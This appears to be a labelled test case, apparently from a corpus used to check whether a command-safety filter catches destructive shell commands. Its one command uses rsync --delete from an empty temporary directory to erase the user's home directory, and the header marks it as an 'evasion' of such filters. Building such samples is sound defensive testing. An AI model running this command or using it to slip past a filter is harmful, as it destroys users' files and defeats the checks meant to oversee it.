# evasion: rsync --delete from an empty directory empties the home directory
# grade: medium; does: delete
empty=$(mktemp -d)
rsync -a --delete "$empty"/ "$HOME"/
